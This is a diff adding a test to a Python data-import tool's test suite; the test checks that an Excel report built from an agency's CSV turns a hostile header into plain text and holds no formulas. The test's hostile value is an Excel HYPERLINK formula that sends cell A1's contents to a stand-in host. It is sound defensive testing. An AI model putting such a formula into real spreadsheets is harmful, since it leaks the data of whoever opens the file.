@@ -1422,3 +1422,16 @@ def test_a_file_without_a_header_row_keeps_its_numbers_out_of_the_message(wareho
 def test_mask_macros_and_python_masks_agree(macro_con, macro, value, expected):
     assert macro_con.execute(f"select {macro}($v)", {"v": value}).fetchone()[0] == expected
     assert getattr(ai, macro)(value) == expected
+
+
+def test_the_excel_report_carries_no_formula(warehouse, tmp_path):
+    # A header of the agency's file is the attacker's text: listed as ignored, it must reach
+    # the report as text, not as a formula Excel would run.
+    hostile = '=HYPERLINK("http://x.invalid/?d="&A1,"klik")'
+    file = write_csv(tmp_path / "hostile.csv", [*SIKS_HEADER, hostile], [[*r, "x"] for r in GOOD_ROWS])
+    report = tmp_path / "laporan.xlsx"
+    assert main(["import", "dtks", str(file), "--report", str(report), "--db", str(warehouse)]) == 0
+    book = openpyxl.load_workbook(report)
+    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
+    assert [c.value for c in cells if c.value == hostile and c.data_type == "s"] == [hostile]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
